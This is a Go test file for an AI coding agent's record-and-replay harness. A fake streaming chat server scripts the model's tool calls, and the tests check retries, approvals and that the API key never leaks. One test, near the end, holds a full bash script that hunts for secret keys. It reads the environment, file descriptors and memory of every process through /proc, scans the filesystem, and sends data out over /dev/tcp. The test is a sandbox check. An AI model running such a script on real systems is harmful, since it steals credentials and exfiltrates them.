package replay_test

import (
	"context"
	"encoding/json"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"regexp"
	"slices"
	"strconv"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/dshsim/dshsim/harness/replay"
	"github.com/dshsim/dshsim/harness/replay/isolate"
	"github.com/dshsim/dshsim/harness/replay/recording"
	"github.com/dshsim/dshsim/internal/waittest"
	"github.com/dshsim/dshsim/llm"
)

// testKey is the API key the fake server expects; no written file may
// hold it.
const testKey = "sk-dshsim-test-0123456789abcdef"

// fakeServer is an OpenAI-compatible chat completions server on loopback
// that answers each request with respond(n) (n counts from 0) and keeps
// what it was sent.
type fakeServer struct {
	*httptest.Server
	mu      sync.Mutex
	bodies  []map[string]any
	times   []time.Time
	auth    []string
	respond func(n int, w http.ResponseWriter)
}

func newFakeServer(t *testing.T, respond func(n int, w http.ResponseWriter)) *fakeServer {
	f := &fakeServer{respond: respond}
	f.Server = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if r.URL.Path != "/chat/completions" || r.Method != http.MethodPost {
			http.Error(w, "not found", http.StatusNotFound)
			return
		}
		var body map[string]any
		data, _ := io.ReadAll(r.Body)
		if err := json.Unmarshal(data, &body); err != nil {
			http.Error(w, "bad body", http.StatusBadRequest)
			return
		}
		f.mu.Lock()
		n := len(f.bodies)
		f.bodies = append(f.bodies, body)
		f.times = append(f.times, time.Now())
		f.auth = append(f.auth, r.Header.Get("Authorization"))
		f.mu.Unlock()
		f.respond(n, w)
	}))
	t.Cleanup(f.Close)
	return f
}

func (f *fakeServer) requests() int {
	f.mu.Lock()
	defer f.mu.Unlock()
	return len(f.bodies)
}

// sse streams the payloads as server-sent events (a comment line first,
// as servers send to keep a connection alive), then [DONE] when done.
func sse(w http.ResponseWriter, done bool, payloads ...string) {
	w.Header().Set("Content-Type", "text/event-stream")
	w.WriteHeader(http.StatusOK)
	fl, _ := w.(http.Flusher)
	fmt.Fprint(w, ": keep-alive\n\n")
	for _, p := range payloads {
		fmt.Fprintf(w, "data: %s\n\n", p)
		if fl != nil {
			fl.Flush()
		}
	}
	if done {
		fmt.Fprint(w, "data: [DONE]\n\n")
	}
}

// toolCall streams one tool call whose arguments arrive in three pieces,
// after a reasoning delta.
func toolCall(id, name, args string) []string {
	q := func(s string) string { b, _ := json.Marshal(s); return string(b) }
	third := len(args) / 3
	return []string{
		`{"choices":[{"delta":{"reasoning_content":"I will call ` + name + `."}}]}`,
		`{"choices":[{"delta":{"tool_calls":[{"index":0,"id":"` + id + `","type":"function","function":{"name":"` + name + `","arguments":""}}]}}]}`,
		`{"choices":[{"delta":{"tool_calls":[{"index":0,"function":{"arguments":` + q(args[:third]) + `}}]}}]}`,
		`{"choices":[{"delta":{"tool_calls":[{"index":0,"function":{"arguments":` + q(args[third:2*third]) + `}}]}}]}`,
		`{"choices":[{"delta":{"tool_calls":[{"index":0,"function":{"arguments":` + q(args[2*third:]) + `}}]},"finish_reason":"tool_calls"}],"usage":{"prompt_tokens":120,"completion_tokens":30,"prompt_cache_hit_tokens":64,"completion_tokens_details":{"reasoning_tokens":5}}}`,
	}
}

// scenarioSteps answers the scenario's three calls: read greeting.txt, an
// escalated bash call, then DONE in pieces with a trailing usage chunk.
func scenarioSteps(n int, w http.ResponseWriter) {
	switch n {
	case 0:
		sse(w, true, toolCall("call_00_rec0001", "read", `{"file_path":"greeting.txt"}`)...)
	case 1:
		sse(w, true, toolCall("call_00_rec0002", "bash", `{"command":"echo RECORDED","description":"Echo a marker","sandbox_permissions":"danger-full-access","justification":"the scenario asks for an escalated echo"}`)...)
	default:
		sse(w, true,
			`{"choices":[{"delta":{"reasoning_content":"Done."}}]}`,
			`{"choices":[{"delta":{"content":"DO"}}]}`,
			`{"choices":[{"delta":{"content":"N"}}]}`,
			`{"choices":[{"delta":{"content":"E"},"finish_reason":"stop"}]}`,
			`{"choices":[],"usage":{"prompt_tokens":200,"completion_tokens":3,"prompt_tokens_details":{"cached_tokens":100}}}`)
	}
}

// writeScenario makes a scenario directory: workspace-write with approval
// ask, the escalation answered allow_once.
func writeScenario(t *testing.T, answers bool) string {
	t.Helper()
	dir := filepath.Join(t.TempDir(), "scenario")
	if err := os.MkdirAll(filepath.Join(dir, "workspace"), 0o755); err != nil {
		t.Fatal(err)
	}
	in := `{"steps":[{"op":"initialize"},{"op":"newSession"},{"op":"prompt","text":"Read greeting.txt, echo RECORDED escalated, then reply DONE."}],` +
		`"sandboxMode":"workspace-write","approvalPolicy":"ask"`
	if answers {
		in += `,"permissionAnswers":[{"kind":"allow_once"}]`
	}
	in += "}\n"
	for name, data := range map[string]string{"input.json": in, "workspace/greeting.txt": "hello\n"} {
		if err := os.WriteFile(filepath.Join(dir, name), []byte(data), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	return dir
}

func recordOptions(f *fakeServer) replay.RecordOptions {
	return replay.RecordOptions{BaseURL: f.URL, Model: "deepseek-v4-flash", Thinking: "enabled", ReasoningEffort: "high",
		Retry:   &llm.RetryPolicy{Mode: llm.RetryNormal, MaxRetries: 2, RetryableCodes: llm.DefaultRetryPolicy().RetryableCodes, InitialDelayMs: 1, MaxDelayMs: 2000, JitterRatio: 0},
		Timeout: time.Minute, Stderr: io.Discard}
}

// record runs Record into <tmp>/out and returns out and its error.
func record(t *testing.T, f *fakeServer, scenario string, opt replay.RecordOptions) (string, error) {
	t.Helper()
	t.Setenv("DEEPSEEK_API_KEY", testKey)
	out := filepath.Join(t.TempDir(), "recorded")
	return out, replay.Record(context.Background(), scenario, out, opt)
}

// nothingWritten fails unless out's directory holds nothing (no recording,
// no partial directory).
func nothingWritten(t *testing.T, out string) {
	t.Helper()
	ents, err := os.ReadDir(filepath.Dir(out))
	if err != nil {
		t.Fatal(err)
	}
	for _, e := range ents {
		t.Errorf("left behind: %s", e.Name())
	}
}

// noKeyIn fails when any byte written under dir holds the key.
func noKeyIn(t *testing.T, dir string) {
	t.Helper()
	n := 0
	filepath.WalkDir(dir, func(p string, d os.DirEntry, err error) error {
		if err != nil || d.IsDir() {
			return err
		}
		data, err := os.ReadFile(p)
		if err != nil {
			t.Fatal(err)
		}
		n++
		if strings.Contains(string(data), testKey) || strings.Contains(string(data), testKey[:16]) {
			t.Errorf("%s holds the API key", p)
		}
		return nil
	})
	if n == 0 {
		t.Fatal("no file written")
	}
}

// TestRecordAgainstAStreamingServer records the scenario against the fake
// server: the requests carry the key, upstream's body and the conversation
// (the read result reaches the model as a tool message); the recording has
// upstream's layout, packed rows, the approval and no key, and it replays
// MATCH through dsh-replay.
func TestRecordAgainstAStreamingServer(t *testing.T) {
	isolate.Require(t)
	f := newFakeServer(t, scenarioSteps)
	out, err := record(t, f, writeScenario(t, true), recordOptions(f))
	if err != nil {
		t.Fatal(err)
	}
	if f.requests() != 3 {
		t.Fatalf("%d requests, want 3", f.requests())
	}
	for i, a := range f.auth {
		if a != "Bearer "+testKey {
			t.Errorf("request %d: Authorization %q", i, a)
		}
	}
	first := f.bodies[0]
	if first["model"] != "deepseek-v4-flash" || first["stream"] != true || first["reasoning_effort"] != "high" {
		t.Errorf("first body: %v", first)
	}
	second, _ := json.Marshal(f.bodies[1]["messages"])
	if !strings.Contains(string(second), `"role":"tool"`) || !strings.Contains(string(second), `1: hello`) || !strings.Contains(string(second), `"reasoning_content":"I will call read."`) {
		t.Errorf("the second request does not carry the read and its result: %s", second)
	}
	for _, name := range []string{"input.json", "session.jsonl", "stdout.expected.jsonl", "projection.expected.json", "workspace/greeting.txt"} {
		if _, err := os.Stat(filepath.Join(out, name)); err != nil {
			t.Errorf("recording lacks %s", name)
		}
	}
	session, _ := os.ReadFile(filepath.Join(out, "session.jsonl"))
	for _, want := range []string{`"type":"tool-call-chunks"`, `"cwd":"{{cwd}}"`, `"system":"{{system}}","tools":"{{tools}}"`,
		`"approval/asked"`, `"outcome":"allowed-once"`, `"text":"RECORDED\n"`, `"provider":"deepseek-official","model":"deepseek-v4-flash"`,
		`{"type":"usage","usage":{"inputTokens":100,"outputTokens":3,"cacheReadTokens":100}}`} {
		if !strings.Contains(string(session), want) {
			t.Errorf("session.jsonl lacks %s", want)
		}
	}
	noKeyIn(t, filepath.Dir(out))
	res := replay.Replay(context.Background(), out, replay.Options{})
	if res.Verdict != replay.Match {
		t.Fatalf("the recording does not replay: %s\n%s", res.Summary(), res.Detail())
	}
}

// TestRecordFaults injects each fault: every one is one line saying what
// happened, and nothing is written (no recording, no partial directory).
func TestRecordFaults(t *testing.T) {
	isolate.Require(t)
	for _, tc := range []struct {
		name     string
		respond  func(n int, w http.ResponseWriter)
		want     []string
		requests int
	}{{
		name: "a rejected key",
		respond: func(n int, w http.ResponseWriter) {
			w.Header().Set("Content-Type", "application/json")
			w.WriteHeader(http.StatusUnauthorized)
			fmt.Fprintf(w, `{"error":{"message":"Authentication Fails, your api key: %s is invalid","type":"authentication_error"}}`, testKey)
		},
		want:     []string{"rejected the API key", "HTTP 401", "<redacted>"},
		requests: 1,
	}, {
		name: "a server failing every time, retried twice",
		respond: func(n int, w http.ResponseWriter) {
			w.WriteHeader(http.StatusServiceUnavailable)
		},
		want:     []string{"DeepSeek API error (HTTP 503)", "SERVER"},
		requests: 3,
	}, {
		name: "a stream that ends without [DONE]",
		respond: func(n int, w http.ResponseWriter) {
			sse(w, false, toolCall("call_00_rec0001", "read", `{"file_path":"greeting.txt"}`)[:3]...)
		},
		want:     []string{"broke off mid-turn", "SSE stream ended without [DONE]"},
		requests: 1,
	}, {
		name: "a connection dropped mid-stream, retried twice",
		respond: func(n int, w http.ResponseWriter) {
			sse(w, false, toolCall("call_00_rec0001", "read", `{"file_path":"greeting.txt"}`)[:2]...)
			conn, _, err := http.NewResponseController(w).Hijack()
			if err == nil {
				conn.Close()
			}
		},
		want:     []string{"broke off mid-turn", "failed"},
		requests: 3,
	}, {
		name: "a malformed event",
		respond: func(n int, w http.ResponseWriter) {
			sse(w, true, `{"choices":[{"delta":{"content":"x"}}]}`, `{"choices":[{"delta":`)
		},
		want:     []string{"not JSON", `malformed SSE payload: {"choices":[{"delta":`},
		requests: 1,
	}} {
		t.Run(tc.name, func(t *testing.T) {
			f := newFakeServer(t, tc.respond)
			out, err := record(t, f, writeScenario(t, true), recordOptions(f))
			if err == nil {
				t.Fatal("recorded")
			}
			msg := err.Error()
			if strings.Contains(msg, "\n") || strings.Contains(msg, testKey) {
				t.Errorf("not one line without the key: %q", msg)
			}
			for _, w := range append(tc.want, "nothing written") {
				if !strings.Contains(msg, w) {
					t.Errorf("error %q lacks %q", msg, w)
				}
			}
			if got := f.requests(); got != tc.requests {
				t.Errorf("%d requests, want %d", got, tc.requests)
			}
			nothingWritten(t, out)
		})
	}
}

// TestRecordRetriesAfterRetryAfter answers the first request with 429 and
// Retry-After: 1: the call is retried one second later (the header
// honoured, not the policy's 1 ms), the log shows upstream's retry events
// around the failed attempt, and the recording is written.
func TestRecordRetriesAfterRetryAfter(t *testing.T) {
	isolate.Require(t)
	f := newFakeServer(t, func(n int, w http.ResponseWriter) {
		if n == 0 {
			w.Header().Set("Retry-After", "1")
			w.Header().Set("X-Request-Id", "req-429")
			w.WriteHeader(http.StatusTooManyRequests)
			fmt.Fprint(w, `{"error":{"message":"Rate limit reached","type":"rate_limit"}}`)
			return
		}
		scenarioSteps(n-1, w)
	})
	out, err := record(t, f, writeScenario(t, true), recordOptions(f))
	if err != nil {
		t.Fatal(err)
	}
	if gap := f.times[1].Sub(f.times[0]); gap < 900*time.Millisecond {
		t.Errorf("retried after %v, Retry-After said 1 s", gap)
	}
	session, _ := os.ReadFile(filepath.Join(out, "session.jsonl"))
	for _, want := range []string{
		`{"type":"finish","reason":{"kind":"error","failure":{"message":"Rate limit reached","code":"RATE_LIMIT","status":429,"providerRetryAfterMs":1000,"requestId":"req-429"}}}`,
		`"provider":"deepseek-official","mode":"normal","policyKey":"[\"normal\",2,[\"EMPTY_RESPONSE\",\"RATE_LIMIT\",\"SERVER\",\"TIMEOUT\",\"TRANSPORT\"],1,2000,0]","retry":1,"maxRetries":2,"delayMs":1000,`,
		`"type":"llm/retry-started"`,
	} {
		if !strings.Contains(string(session), want) {
			t.Errorf("session.jsonl lacks %s", want)
		}
	}
	noKeyIn(t, filepath.Dir(out))
}

// TestRecordInterrupted cancels the session while the model streams: it
// stops at once, says so, and writes nothing.
func TestRecordInterrupted(t *testing.T) {
	isolate.Require(t)
	started := make(chan struct{}, 1)
	release := make(chan struct{})
	f := newFakeServer(t, func(n int, w http.ResponseWriter) {
		sse(w, false, `{"choices":[{"delta":{"content":"partial"}}]}`)
		started <- struct{}{}
		<-release
	})
	defer close(release)
	t.Setenv("DEEPSEEK_API_KEY", testKey)
	out := filepath.Join(t.TempDir(), "recorded")
	ctx, cancel := context.WithCancel(context.Background())
	go func() { <-started; cancel() }()
	err := waittest.Call(t, "the interrupted recording to stop", func() error {
		return replay.Record(ctx, writeScenario(t, true), out, recordOptions(f))
	})
	if err == nil || !strings.Contains(err.Error(), "interrupted") || !strings.Contains(err.Error(), "nothing written") {
		t.Fatalf("error %v, want an interruption that wrote nothing", err)
	}
	nothingWritten(t, out)
}

// TestRecordWithoutAnswersOrTerminal: a prompt with no permissionAnswers
// and no terminal to ask fails closed: the call is not approved and the
// recording fails naming the call.
func TestRecordWithoutAnswersOrTerminal(t *testing.T) {
	isolate.Require(t)
	if tty, err := os.OpenFile("/dev/tty", os.O_RDWR, 0); err == nil {
		tty.Close()
		t.Skip("a terminal is attached: the prompt would ask it")
	}
	f := newFakeServer(t, scenarioSteps)
	out, err := record(t, f, writeScenario(t, false), recordOptions(f))
	if err == nil || !strings.Contains(err.Error(), "call_00_rec0002 needs approval") || !strings.Contains(err.Error(), "no terminal") {
		t.Fatalf("error %v, want the approval that found no answer", err)
	}
	nothingWritten(t, out)
}

// TestRecordNeedsTheKey: without the key's variable nothing starts, and the
// one line names the variable.
func TestRecordNeedsTheKey(t *testing.T) {
	t.Setenv("DEEPSEEK_API_KEY", "")
	out := filepath.Join(t.TempDir(), "recorded")
	err := replay.Record(context.Background(), writeScenario(t, true), out, replay.RecordOptions{BaseURL: "http://127.0.0.1:1", Model: "m"})
	if err == nil || !strings.Contains(err.Error(), "DEEPSEEK_API_KEY") {
		t.Fatalf("error %v, want one naming DEEPSEEK_API_KEY", err)
	}
	nothingWritten(t, out)
	_ = recording.InputFile
}

// huntKey is the bash call of TestRecordKeepsItsKey: it looks for the key
// by every means a tool has. For every process it can see it reads the
// command line and environment, every descriptor (the first 64 KiB of
// each) and every readable region of its memory; it reads its own
// environment and every file of the child's root but /proc, /sys, /usr and
// /dev; and it tries to send what it found to the host's loopback (port
// PORT). Whatever looks like a key ("sk-" and what follows) it prints
// forward and reversed, with a line per process saying what it could read,
// and "hunt-done" at the end.
const huntKey = `found() { grep -a -o 'sk-[A-Za-z0-9_-]*' | sort -u | while read -r k; do echo "FOUND $k $(echo "$k" | rev)"; done; }
n=0
for p in /proc/[0-9]*; do
  pid=${p#/proc/}; n=$((n+1))
  cmd=$(tr '\0' ' ' < $p/cmdline 2>/dev/null | head -c 60)
  env=denied; tr '\0' '\n' < $p/environ > /tmp/env.$pid 2>/dev/null && env=read && found < /tmp/env.$pid
  fds=0; for fd in $p/fd/*; do [ -e "$fd" ] || continue; fds=$((fds+1)); timeout 0.2 head -c 65536 "$fd" 2>/dev/null | found; done
  mem=0
  while read -r range perms rest; do
    case $perms in r*) s=$((16#${range%-*})); e=$((16#${range#*-}))
      if dd if=$p/mem bs=4096 skip=$((s/4096)) count=$(((e-s)/4096)) 2>/dev/null > /tmp/mem.$pid; then mem=$((mem+$(stat -c %s /tmp/mem.$pid))); found < /tmp/mem.$pid; fi;;
    esac
  done < $p/maps 2>/dev/null
  rm -f /tmp/mem.$pid /tmp/env.$pid
  echo "pid $pid [$cmd] environ $env fds $fds memory $mem"
done
env | found
grep -r -a -o -s 'sk-[A-Za-z0-9_-]*' / --exclude-dir=proc --exclude-dir=sys --exclude-dir=usr --exclude-dir=dev | sed 's/^[^:]*://' | found
` + huntSend

// huntSend is the end of huntKey: it sends to the host's loopback.
const huntSend = `(echo "sk-exfiltrated" > /dev/tcp/127.0.0.1/PORT) 2>/dev/null && echo "sent to the host"
echo "hunt-done $n processes"`

// TestRecordKeepsItsKey: the model has bash hunt for the key (huntKey)
// under danger-full-access: through every process the session's tools can
// see (their environments, descriptors and memory), their own environment
// and the files of their root, and it finds nothing; what it sends to the
// host's loopback never arrives (the tools have no network); the key is in
// no request body the model got (only in the Authorization header), in no
// file written, forward or reversed. With ToolNetwork the tools reach the
// host's loopback (a call that only connects).
func TestRecordKeepsItsKey(t *testing.T) {
	isolate.Require(t)
	for _, network := range []bool{false, true} {
		t.Run(map[bool]string{false: "no network", true: "tool network"}[network], func(t *testing.T) {
			ln, err := net.Listen("tcp", "127.0.0.1:0")
			if err != nil {
				t.Fatal(err)
			}
			defer ln.Close()
			hunt := huntKey
			if network {
				hunt = "n=0\n" + huntSend
			}
			hunt = strings.ReplaceAll(hunt, "PORT", strconv.Itoa(ln.Addr().(*net.TCPAddr).Port))
			f := newFakeServer(t, func(n int, w http.ResponseWriter) {
				if n == 0 {
					args, _ := json.Marshal(map[string]string{"command": hunt, "description": "find the key"})
					sse(w, true, toolCall("call_00_hunt0001", "bash", string(args))...)
					return
				}
				sse(w, true, `{"choices":[{"delta":{"content":"DONE"},"finish_reason":"stop"}]}`)
			})
			opt := recordOptions(f)
			opt.ToolNetwork = network
			out, err := record(t, f, keyScenario(t), opt)
			if err != nil {
				t.Fatal(err)
			}
			if f.requests() != 2 {
				t.Fatalf("%d requests, want 2", f.requests())
			}
			result := toolResults(f.bodies[1])
			if !regexp.MustCompile(`hunt-done [0-9]+ processes`).MatchString(result) || !network && !regexp.MustCompile(`pid 1 \[[^]]*\] environ denied fds 0 memory 0`).MatchString(result) {
				t.Fatalf("the hunt did not run to its end, or read PID 1: %s", result)
			}
			for i, b := range f.bodies {
				data, _ := json.Marshal(b)
				assertNoKey(t, fmt.Sprintf("request %d's body", i), string(data))
			}
			assertNoKeyUnder(t, filepath.Dir(out))
			sent := strings.Contains(result, "sent to the host")
			if got := accepted(t, ln); sent != network || got != network {
				t.Errorf("tool network %v: the bash call says it sent %v, the host's listener got a connection %v", network, sent, got)
			}
		})
	}
}

// toolResults are the texts of the tool messages of a request body.
func toolResults(body map[string]any) string {
	var b strings.Builder
	msgs, _ := body["messages"].([]any)
	for _, m := range msgs {
		if m, ok := m.(map[string]any); ok && m["role"] == "tool" {
			fmt.Fprintln(&b, m["content"])
		}
	}
	return b.String()
}

// keyScenario is a scenario whose session runs under danger-full-access
// without approvals.
func keyScenario(t *testing.T) string {
	t.Helper()
	dir := filepath.Join(t.TempDir(), "scenario")
	if err := os.MkdirAll(dir, 0o755); err != nil {
		t.Fatal(err)
	}
	in := `{"steps":[{"op":"initialize"},{"op":"newSession"},{"op":"prompt","text":"Find the API key."}],"sandboxMode":"danger-full-access","approvalPolicy":"never"}` + "\n"
	if err := os.WriteFile(filepath.Join(dir, "input.json"), []byte(in), 0o644); err != nil {
		t.Fatal(err)
	}
	return dir
}

// assertNoKey fails when text holds the key, whole or reversed, or the
// part of it that is its own (past "sk-").
func assertNoKey(t *testing.T, what, text string) {
	t.Helper()
	rev := []rune(testKey)
	slices.Reverse(rev)
	for _, form := range []string{testKey, string(rev), strings.TrimPrefix(testKey, "sk-")} {
		if strings.Contains(text, form) {
			t.Errorf("%s holds the key (%q)", what, form)
		}
	}
}

// assertNoKeyUnder fails when any file under dir holds the key.
func assertNoKeyUnder(t *testing.T, dir string) {
	t.Helper()
	err := filepath.WalkDir(dir, func(p string, d os.DirEntry, err error) error {
		if err != nil || d.IsDir() {
			return err
		}
		data, err := os.ReadFile(p)
		assertNoKey(t, p, string(data))
		return err
	})
	if err != nil {
		t.Fatal(err)
	}
}

// accepted reports whether ln got a connection (within a short wait: the
// session is over by now).
func accepted(t *testing.T, ln net.Listener) bool {
	t.Helper()
	if err := ln.(*net.TCPListener).SetDeadline(time.Now().Add(200 * time.Millisecond)); err != nil {
		t.Fatal(err)
	}
	c, err := ln.Accept()
	if err == nil {
		c.Close()
		return true
	}
	return false
}
